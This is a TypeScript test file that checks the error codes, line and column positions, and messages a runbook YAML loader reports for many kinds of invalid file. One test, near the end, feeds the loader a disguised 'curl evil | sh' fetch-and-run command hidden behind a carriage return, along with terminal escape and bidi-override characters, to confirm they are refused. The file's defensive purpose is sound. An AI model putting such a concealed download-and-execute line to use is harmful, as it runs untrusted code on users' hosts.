// Every kind of invalid runbook, as RuleTester does it: each row is a small file and ALL of its
// diagnostics, sorted by position, as [code, line, col, message substring, hint substring?].
import { describe, expect, test } from 'vitest';
import { formatDiagnostic, type Diagnostic } from '../../src/errors/diagnostic.js';
import type { ErrorCode } from '../../src/errors/codes.js';
import { loadRunbookText } from '../../src/runbook/load.js';

type Want = [code: ErrorCode, line: number, col: number, message: string, hint?: string];

interface Row {
  readonly name: string;
  readonly yaml: string;
  readonly want: Want[];
}

/** Strips the indentation the rows share, so each YAML reads as the file it stands for. */
const dedent = (text: string): string => {
  const lines = text.replace(/^\n/, '').replace(/\n\s*$/, '\n').split('\n');
  const indent = Math.min(...lines.filter((line) => line.trim() !== '').map((line) => /^ */.exec(line)![0].length));
  return lines.map((line) => line.slice(indent)).join('\n');
};

const ROWS: Row[] = [
  {
    name: 'YAML syntax: an unquoted colon in a command',
    yaml: `
      version: 1
      title: t
      hosts: {server: local}
      questions:
        - id: q1
          title: Q
          checks:
            - id: c1
              on: server
              run: echo: hi
    `,
    want: [['RB_YAML', 10, 14, 'Nested mappings are not allowed in compact mappings']],
  },
  {
    name: 'YAML syntax: a tab as indentation',
    yaml: 'version: 1\ntitle: t\nhosts: {server: local}\nquestions:\n\t- id: q1\n',
    want: [['RB_YAML', 5, 1, 'Tabs are not allowed as indentation']],
  },
  {
    name: 'duplicate YAML key (the later one would silently win)',
    yaml: `
      version: 1
      title: t
      hosts: {server: local}
      questions:
        - id: q1
          title: Q
          checks:
            - id: c1
              on: server
              run: echo
              on: client
    `,
    want: [['RB_YAML', 11, 9, 'Map keys must be unique']],
  },
  {
    name: 'wrong type: the example from the issue, questions[3]',
    yaml: `
      version: 1
      title: t
      hosts: {server: local}
      questions:
        - {id: q0, title: Q, checks: [{id: c0, on: server, run: "true"}]}
        - {id: q1, title: Q, checks: [{id: c1, on: server, run: "true"}]}
        - {id: q2, title: Q, checks: [{id: c2, on: server, run: "true"}]}
        - id: q3
          title: Q
          checks:
            - id: c3
              on: server
              run: "true"
              expect:
                exit_code: zero
    `,
    want: [['RB_SCHEMA', 15, 22, 'questions[3].checks[0].expect.exit_code must be an integer, got "zero"']],
  },
  {
    name: 'wrong type: a number where a command is expected, a fraction for an exit code',
    yaml: `
      version: 1
      title: t
      hosts: {server: local}
      questions:
        - id: q1
          title: Q
          checks:
            - id: c1
              on: server
              run: 42
            - id: c2
              on: server
              run: echo
              expect:
                exit_code: 1.5
    `,
    want: [
      ['RB_SCHEMA', 10, 14, 'questions[0].checks[0].run must be a string, got 42'],
      ['RB_SCHEMA', 15, 22, 'questions[0].checks[1].expect.exit_code must be an integer, got 1.5'],
    ],
  },
  {
    name: 'unknown property, pointed at the key, with did-you-mean',
    yaml: `
      version: 1
      title: t
      hosts: {server: local}
      questions:
        - id: q1
          title: Q
          checks:
            - id: c1
              on: server
              run: echo
              expct:
                exit_code: 0
    `,
    want: [['RB_SCHEMA', 11, 9, 'questions[0].checks[0] has unknown property "expct"', 'did you mean "expect"?']],
  },
  {
    name: 'unknown property without a close match lists the known ones',
    yaml: `
      version: 1
      title: t
      hosts: {server: local}
      questions:
        - id: q1
          title: Q
          checks:
            - id: c1
              on: server
              run: echo
              retries: 3
    `,
    want: [['RB_SCHEMA', 11, 9, 'questions[0].checks[0] has unknown property "retries"', 'expected one of: dns, file, http, listening, mysql, packet_capture, ping, port_scan, process, run, service, tcp_connect, tls, id, on, expect, capture, depends_on, timeout, become, informational, hint']],
  },
  {
    name: 'an unknown field under expect',
    yaml: `
      version: 1
      title: t
      hosts: {server: local}
      questions:
        - id: q1
          title: Q
          checks:
            - id: c1
              on: server
              run: echo
              expect:
                stdot: {contains: x}
    `,
    want: [['RB_SCHEMA', 12, 11, 'questions[0].checks[0].expect has unknown property "stdot"', 'did you mean "stdout"?']],
  },
  {
    name: 'a misspelt top-level key: said once, by its did-you-mean (not also as missing), and the role it left undefined',
    yaml: `
      version: 1
      title: t
      host: {server: local}
      questions:
        - id: q1
          title: Q
          checks:
            - id: c1
              on: server
              run: echo
    `,
    want: [
      ['RB_SCHEMA', 3, 1, 'the runbook has unknown property "host"', 'did you mean "hosts"?'],
      ['RB_UNKNOWN_HOST', 9, 13, 'check "c1" runs on unknown host role "server"', 'define it under hosts (known roles: none)'],
    ],
  },
  {
    name: 'unknown matcher, pointed at its key, with did-you-mean',
    yaml: `
      version: 1
      title: t
      hosts: {server: local}
      questions:
        - id: q1
          title: Q
          checks:
            - id: c1
              on: server
              run: echo
              expect:
                stdout: {contians: LISTEN}
    `,
    want: [['RB_SCHEMA', 12, 20, 'questions[0].checks[0].expect.stdout has unknown matcher "contians"', 'did you mean "contains"?']],
  },
  {
    name: 'two matchers in one map',
    yaml: `
      version: 1
      title: t
      hosts: {server: local}
      questions:
        - id: q1
          title: Q
          checks:
            - id: c1
              on: server
              run: echo
              expect:
                stdout: {contains: a, regex: b}
    `,
    want: [['RB_SCHEMA', 12, 19, 'questions[0].checks[0].expect.stdout must hold exactly one matcher', 'use all_of: [...] or a list for several']],
  },
  {
    name: 'missing required property, at the map that lacks it',
    yaml: `
      version: 1
      title: t
      hosts: {server: local}
      questions:
        - id: q1
          checks:
            - id: c1
              run: echo
    `,
    want: [
      ['RB_SCHEMA', 5, 5, 'questions[0] is missing required property "title"'],
      ['RB_SCHEMA', 7, 9, 'questions[0].checks[0] is missing required property "on"'],
    ],
  },
  {
    name: 'empty list and empty maps assert nothing',
    yaml: `
      version: 1
      title: t
      hosts: {server: local}
      questions:
        - id: q1
          title: Q
          checks: []
        - id: q2
          title: Q
          checks:
            - id: c2
              on: server
              run: echo
              expect: {}
              capture: {}
            - id: c3
              on: server
              run: ""
              expect:
                stdout: []
    `,
    want: [
      ['RB_SCHEMA', 7, 13, 'questions[0].checks must not be empty (an empty value asserts nothing)'],
      ['RB_SCHEMA', 14, 17, 'questions[1].checks[0].expect must not be empty (an empty value asserts nothing)'],
      ['RB_SCHEMA', 15, 18, 'questions[1].checks[0].capture must not be empty (an empty value asserts nothing)'],
      ['RB_SCHEMA', 18, 14, 'questions[1].checks[1].run must not be empty (an empty value asserts nothing)'],
      ['RB_SCHEMA', 20, 19, 'questions[1].checks[1].expect.stdout must not be empty (an empty value asserts nothing)'],
    ],
  },
  {
    name: 'ids must be kebab-case',
    yaml: `
      version: 1
      title: t
      hosts: {server: local}
      questions:
        - id: Service_Up
          title: Q
          checks:
            - id: "mysqld process"
              on: server
              run: echo
    `,
    want: [
      ['RB_SCHEMA', 5, 9, 'questions[0].id must be a kebab-case id such as "service-up", got "Service_Up"'],
      ['RB_SCHEMA', 8, 13, 'questions[0].checks[0].id must be a kebab-case id such as "mysqld-process", got "mysqld process"'],
    ],
  },
  {
    name: 'a check that does not say what to run',
    yaml: `
      version: 1
      title: t
      hosts: {server: local}
      questions:
        - id: q1
          title: Q
          checks:
            - id: c1
              on: server
              expect:
                exit_code: 0
    `,
    want: [['RB_SCHEMA', 8, 9, 'questions[0].checks[0] must say what to run: one of dns, file, http, listening, mysql, packet_capture, ping, port_scan, process, run, service, tcp_connect, tls']],
  },
  {
    name: 'bad durations',
    yaml: `
      version: 1
      title: t
      hosts: {server: local}
      questions:
        - id: q1
          title: Q
          checks:
            - {id: c1, on: server, run: echo, timeout: 5 seconds}
            - {id: c2, on: server, run: echo, timeout: 5}
            - {id: c3, on: server, run: echo, timeout: 0}
            - {id: c4, on: server, run: echo, timeout: -2s}
    `,
    want: [
      ['RB_SCHEMA', 8, 50, 'questions[0].checks[0].timeout must be a duration such as 500ms, 5s or 2m (a bare number is seconds), got "5 seconds"'],
      ['RB_SCHEMA', 10, 50, 'questions[0].checks[2].timeout must be > 0'],
      ['RB_SCHEMA', 11, 50, 'questions[0].checks[3].timeout must be a duration such as 500ms, 5s or 2m (a bare number is seconds), got "-2s"'],
    ],
  },
  {
    name: 'a zero duration written with a unit is as meaningless as `timeout: 0`',
    yaml: `
      version: 1
      title: t
      hosts: {server: local}
      questions:
        - id: q1
          title: Q
          checks:
            - {id: c1, on: server, run: echo, timeout: 0s}
            - {id: c2, on: server, run: echo, timeout: 0ms}
    `,
    want: [
      ['RB_SCHEMA', 8, 50, 'questions[0].checks[0].timeout'],
      ['RB_SCHEMA', 9, 50, 'questions[0].checks[1].timeout'],
    ],
  },
  {
    name: 'bad host addresses',
    yaml: `
      version: 1
      title: t
      hosts:
        server: "db server"
        client: {address: "root@db:22:33", become: true}
        web: {becom: true}
      questions:
        - id: q1
          title: Q
          checks:
            - {id: c1, on: server, run: echo}
    `,
    want: [
      ['RB_SCHEMA', 4, 11, 'hosts.server must be "local", an SSH destination [user@]host[:port], a range such as web[01:50].prod, or @GROUP of --inventory, got "db server"'],
      ['RB_SCHEMA', 5, 21, 'hosts.client.address must be "local", an SSH destination [user@]host[:port], a range such as web[01:50].prod, or @GROUP of --inventory, got "root@db:22:33"'],
      ['RB_SCHEMA', 6, 9, 'hosts.web has unknown property "becom"', 'did you mean "become"?'],
    ],
  },
  {
    name: 'a host port out of range is reported, not silently dropped',
    yaml: `
      version: 1
      title: t
      hosts:
        server: "db:99999"
        client: {address: "root@db:0"}
      questions:
        - id: q1
          title: Q
          checks:
            - {id: c1, on: server, run: echo}
    `,
    want: [
      ['RB_SCHEMA', 4, 11, 'hosts.server'],
      ['RB_SCHEMA', 5, 21, 'hosts.client.address'],
    ],
  },
  {
    name: 'version other than 1',
    yaml: `
      version: 2
      title: t
      hosts: {server: local}
      questions:
        - {id: q1, title: Q, checks: [{id: c1, on: server, run: echo}]}
    `,
    want: [['RB_SCHEMA', 1, 10, 'version must be 1, got 2']],
  },
  {
    name: 'not a runbook at all',
    yaml: 'just some text\n',
    want: [['RB_SCHEMA', 1, 1, 'the runbook must be an object, got "just some text"']],
  },
  {
    name: 'duplicate question id and duplicate check id name the first place',
    yaml: `
      version: 1
      title: t
      hosts: {server: local}
      questions:
        - id: q1
          title: Q
          checks:
            - id: c1
              on: server
              run: echo
        - id: q1
          title: Q again
          checks:
            - id: c1
              on: server
              run: echo
    `,
    want: [
      ['RB_DUPLICATE_ID', 11, 9, 'questions[1] question id "q1" is already used by questions[0] at x.yaml:5:9'],
      ['RB_DUPLICATE_ID', 14, 13, 'questions[1].checks[0] check id "c1" is already used by questions[0].checks[0] at x.yaml:8:13'],
    ],
  },
  {
    name: 'unknown `on` role, at the `on` value, with did-you-mean or the known roles',
    yaml: `
      version: 1
      title: t
      hosts: {server: local, client: local}
      questions:
        - id: q1
          title: Q
          checks:
            - id: c1
              on: sever
              run: echo
            - id: c2
              on: db
              run: echo
    `,
    want: [
      ['RB_UNKNOWN_HOST', 9, 13, 'check "c1" runs on unknown host role "sever"', 'did you mean "server"?'],
      ['RB_UNKNOWN_HOST', 12, 13, 'check "c2" runs on unknown host role "db"', 'define it under hosts (known roles: server, client)'],
    ],
  },
  {
    name: 'invalid names of variables, host roles and captures, at the name',
    yaml: `
      version: 1
      title: t
      vars:
        port: 3306
        bad-name: 1
      hosts:
        server: local
        Client: local
      questions:
        - id: q1
          title: Q
          checks:
            - id: c1
              on: server
              run: echo
              capture:
                ok: "(x)"
                9lives: "(y)"
    `,
    want: [
      ['RB_SCHEMA', 5, 3, 'vars has invalid name "bad-name"'],
      ['RB_SCHEMA', 8, 3, 'hosts has invalid name "Client"'],
      ['RB_SCHEMA', 18, 11, 'questions[0].checks[0].capture has invalid name "9lives"'],
    ],
  },
  {
    name: 'a secret with a default in the file, and misspelt keys of a variable map',
    yaml: `
      version: 1
      title: t
      vars:
        db_password: {secret: true, description: the password, default: hunter2-s3cret}
        token:
          secret: true
          default: 1234
        empty_is_fine: {secret: true, default: ""}
        user: {default: app, secrte: true}
      hosts: {server: local}
      questions:
        - {id: q1, title: Q, checks: [{id: c1, on: server, run: "true"}]}
    `,
    want: [
      ['RB_SCHEMA', 4, 67, 'vars.db_password.default must not be set: a secret\'s value never belongs in the runbook file', 'give it with RUNBOOK_VAR_db_password=... in the environment or --var db_password=...'],
      ['RB_SCHEMA', 7, 14, 'vars.token.default must not be set', 'RUNBOOK_VAR_token'],
      ['RB_SCHEMA', 9, 24, 'vars.user has unknown property "secrte"', 'did you mean "secret"?'],
    ],
  },
  {
    name: 'duplicate capture names',
    yaml: `
      version: 1
      title: t
      hosts: {server: local}
      questions:
        - id: q1
          title: Q
          checks:
            - id: c1
              on: server
              run: echo
              capture: {pid: "pid=(\\\\d+)"}
            - id: c2
              on: server
              run: echo
              capture:
                pid: {from: stderr, regex: "(\\\\d+)"}
    `,
    want: [['RB_DUPLICATE_CAPTURE', 16, 11, 'check "c2" captures "pid", already captured by check "c1"', 'give each capture its own name']],
  },
  {
    name: 'capture regexes: no group, invalid, and an unknown field',
    yaml: `
      version: 1
      title: t
      hosts: {server: local}
      questions:
        - id: q1
          title: Q
          checks:
            - id: c1
              on: server
              run: echo
              capture:
                port: "port=\\\\d+"
                pid: {regex: "pid=(\\\\d+"}
            - id: c2
              on: server
              run: echo
              capture:
                v: {from: stdot}
    `,
    want: [
      ['RB_MATCHER', 12, 17, 'questions[0].checks[0].capture.port needs a capture group, e.g. "pid=(\\d+)": its first group is the value'],
      ['RB_MATCHER', 13, 24, 'questions[0].checks[0].capture.pid.regex is not a valid regular expression: '],
      ['RB_SCHEMA', 18, 21, 'questions[0].checks[1].capture.v.from must be one of exit_code, stdout, stderr, got "stdot"', 'did you mean "stdout"?'],
    ],
  },
  {
    name: 'bad regex in expect, however deeply nested',
    yaml: `
      version: 1
      title: t
      hosts: {server: local}
      questions:
        - id: q1
          title: Q
          checks:
            - id: c1
              on: server
              run: echo
              expect:
                stdout: {regex: "a(b"}
                stderr: {not: {any_of: [{contains: a}, {regex: "["}]}}
    `,
    want: [
      ['RB_MATCHER', 12, 27, 'questions[0].checks[0].expect.stdout.regex is not a valid regular expression: '],
      ['RB_MATCHER', 13, 58, 'questions[0].checks[0].expect.stderr.not.any_of[1].regex is not a valid regular expression: '],
    ],
  },
  {
    name: 'a matcher error inside a plain list names the list item',
    yaml: `
      version: 1
      title: t
      hosts: {server: local}
      questions:
        - id: q1
          title: Q
          checks:
            - id: c1
              on: server
              run: echo
              expect:
                stdout:
                  - contains: a
                  - regex: "("
    `,
    want: [['RB_MATCHER', 14, 22, 'questions[0].checks[0].expect.stdout[1].regex is not a valid regular expression: ']],
  },
  {
    name: 'matchers on the wrong field type',
    yaml: `
      version: 1
      title: t
      hosts: {server: local}
      questions:
        - id: q1
          title: Q
          checks:
            - id: c1
              on: server
              run: echo
              expect:
                exit_code: {contains: "0"}
                stdout: {line_count: {regex: "x"}}
                stderr: {not: 0}
    `,
    want: [
      ['RB_MATCHER', 12, 22, 'questions[0].checks[0].expect.exit_code contains applies to text values, this value is a number'],
      ['RB_MATCHER', 13, 32, 'questions[0].checks[0].expect.stdout.line_count regex applies to text values, this value is a number'],
      ['RB_MATCHER', 14, 25, 'questions[0].checks[0].expect.stderr.not a bare number compares numbers; this value is text'],
    ],
  },
  {
    name: 'a matcher argument of the wrong type',
    yaml: `
      version: 1
      title: t
      hosts: {server: local}
      questions:
        - id: q1
          title: Q
          checks:
            - id: c1
              on: server
              run: echo
              expect:
                stdout: {line_count: {gt: many}}
    `,
    want: [['RB_SCHEMA', 12, 37, 'questions[0].checks[0].expect.stdout.line_count.gt must be a number, got "many"']],
  },
  {
    name: 'several problems in one file are all reported',
    yaml: `
      version: 1
      title: t
      hosts: {server: local}
      questions:
        - id: q1
          title: Q
          checks:
            - {id: c1, on: server, run: echo, timout: 5s}
            - {id: c2, on: server, run: echo, expect: {exit_code: {regex: "0"}}}
        - id: q2
          title: Q
          checks:
            - {id: c3, on: servr, run: echo}
            - {id: c2, on: server, run: echo}
    `,
    want: [
      ['RB_SCHEMA', 8, 41, 'questions[0].checks[0] has unknown property "timout"', 'did you mean "timeout"?'],
      ['RB_MATCHER', 9, 61, 'questions[0].checks[1].expect.exit_code regex applies to text values, this value is a number'],
      ['RB_UNKNOWN_HOST', 13, 22, 'check "c3" runs on unknown host role "servr"', 'did you mean "server"?'],
      ['RB_DUPLICATE_ID', 14, 14, 'questions[1].checks[1] check id "c2" is already used by questions[0].checks[1] at x.yaml:9:14'],
    ],
  },
  {
    // Found by fuzzing: the YAML parser's own line count skips the line break inside the scalar it
    // could not place, so its last error was put at line 2, column 6, past the end of that line.
    name: 'YAML syntax: an error after a line break the parser lost count of',
    yaml: '[\n{}n\nt',
    want: [
      ['RB_YAML', 2, 3, 'Unexpected scalar at node end'],
      ['RB_YAML', 3, 2, 'Flow sequence must end with a ]'],
    ],
  },
  {
    // Found by fuzzing: a variable holding a boolean, used as a duration, was an internal error (exit 70).
    name: 'a duration from a variable that holds a boolean',
    yaml: 'version: 1\ntitle: t\nvars: {wait: true}\nhosts: {server: local}\nquestions:\n  - {id: q, title: Q, checks: [{id: c, on: server, run: "true", timeout: "${vars.wait}"}]}\n',
    want: [['RB_SCHEMA', 6, 74, 'questions[0].checks[0].timeout must be a duration such as 500ms, 5s or 2m, got true from ${vars.wait}']],
  },
];

const byPosition = (a: Diagnostic, b: Diagnostic): number =>
  (a.location?.line ?? 0) - (b.location?.line ?? 0) || (a.location?.col ?? 0) - (b.location?.col ?? 0) || a.code.localeCompare(b.code);

const expected = ([code, line, col, message, hint]: Want) => ({
  code,
  location: { file: 'x.yaml', line, col },
  message: expect.stringContaining(message),
  ...(hint === undefined ? {} : { hint: expect.stringContaining(hint) }),
});

describe('invalid runbooks: every diagnostic with code, line and column', () => {
  test.for(ROWS)('$name', ({ yaml, want }) => {
    const { diagnostics } = loadRunbookText('x.yaml', dedent(yaml));
    expect([...diagnostics].sort(byPosition)).toEqual(want.map(expected));
  });

  test('a diagnostic prints on one line as file:line:col: message [CODE]', () => {
    const [row] = ROWS.filter((candidate) => candidate.name.startsWith('wrong type: the example'));
    const [diagnostic] = loadRunbookText('runbooks/mysql.yaml', dedent(row!.yaml)).diagnostics;
    expect(formatDiagnostic(diagnostic!)).toBe(
      'runbooks/mysql.yaml:15:22: questions[3].checks[0].expect.exit_code must be an integer, got "zero" [RB_SCHEMA]',
    );
  });

  test('a hint follows the message after a semicolon', () => {
    const [row] = ROWS.filter((candidate) => candidate.name.startsWith('unknown property, pointed'));
    const [diagnostic] = loadRunbookText('x.yaml', dedent(row!.yaml)).diagnostics;
    expect(formatDiagnostic(diagnostic!)).toBe('x.yaml:11:9: questions[0].checks[0] has unknown property "expct"; did you mean "expect"? [RB_SCHEMA]');
  });

  test('what a message quotes prints escaped: one line, no terminal control', () => {
    // Found by fuzzing: a key holding a line break printed as two lines; one holding ESC could clear
    // the screen. Such a file no longer loads (below); a message may still quote a name given on
    // the command line (--var, --host), so formatting escapes whatever it is given.
    const quoted: Diagnostic = { code: 'RB_SCHEMA', message: 'the runbook has unknown property "a\nb\u001b[2J\u009b\u2028\u202eKO\t"', location: { file: 'x.yaml', line: 5, col: 1 } };
    expect(formatDiagnostic(quoted)).toBe('x.yaml:5:1: the runbook has unknown property "a\\nb\\x1b[2J\\x9b\\u2028\\u202EKO\\t" [RB_SCHEMA]');
  });

  // What `runbook plan` and the reports show must be what runs: a character a terminal acts on (ESC,
  // a carriage return, C1's CSI) or one that reorders the text around it (a bidi override) is
  // refused where it is written, in a key or a value, raw or as a YAML escape.
  test('a character that acts on a terminal or reorders text does not load: each at its value, named', () => {
    const yaml = [
      'version: 1',
      'title: "t \\e]0;owned\\a"',
      'hosts: {server: local}',
      'questions:',
      '  - id: q',
      '    title: "Q \u202e gnirts"',
      '    checks:',
      '      - { id: c, on: server, run: "curl evil | sh #\\r echo harmless" }',
      '"key \\x9b": 1',
      'description: "half \\ud800"',
      'defaults: { timeout: "5s\tx" }',
    ].join('\n');
    const printed = loadRunbookText('x.yaml', yaml).diagnostics.map(formatDiagnostic);
    expect(printed).toEqual([
      expect.stringMatching(/^x\.yaml:2:8: the value holds the control character U\+001B, which a terminal acts on: .* \[RB_YAML\]$/),
      expect.stringMatching(/^x\.yaml:6:12: the value holds U\+202E, a bidi control: the text around it would show in another order than it is written, so `runbook plan` could not show what runs; remove it \[RB_YAML\]$/),
      expect.stringMatching(/^x\.yaml:8:35: the value holds the control character U\+000D, which a terminal acts on: .*printf 'a\\r\\n' \[RB_YAML\]$/),
      expect.stringMatching(/^x\.yaml:9:1: the value holds the control character U\+009B, /),
      'x.yaml:10:14: the value holds a lone surrogate (U+D800), which no UTF-8 text can carry; remove it [RB_YAML]',
    ]);
  });

  test("a secret's default is refused without repeating it", () => {
    const [row] = ROWS.filter((candidate) => candidate.name.startsWith('a secret with a default'));
    const printed = loadRunbookText('x.yaml', dedent(row!.yaml)).diagnostics.map(formatDiagnostic).join('\n');
    expect(printed).not.toContain('hunter2-s3cret');
    expect(printed).not.toContain('1234');
  });

  test('an invalid file yields no runbook only when YAML itself is broken', () => {
    expect(loadRunbookText('x.yaml', 'a: [').runbook).toBeUndefined();
    expect(loadRunbookText('x.yaml', 'version: 2\n').runbook).toBeDefined();
  });
});
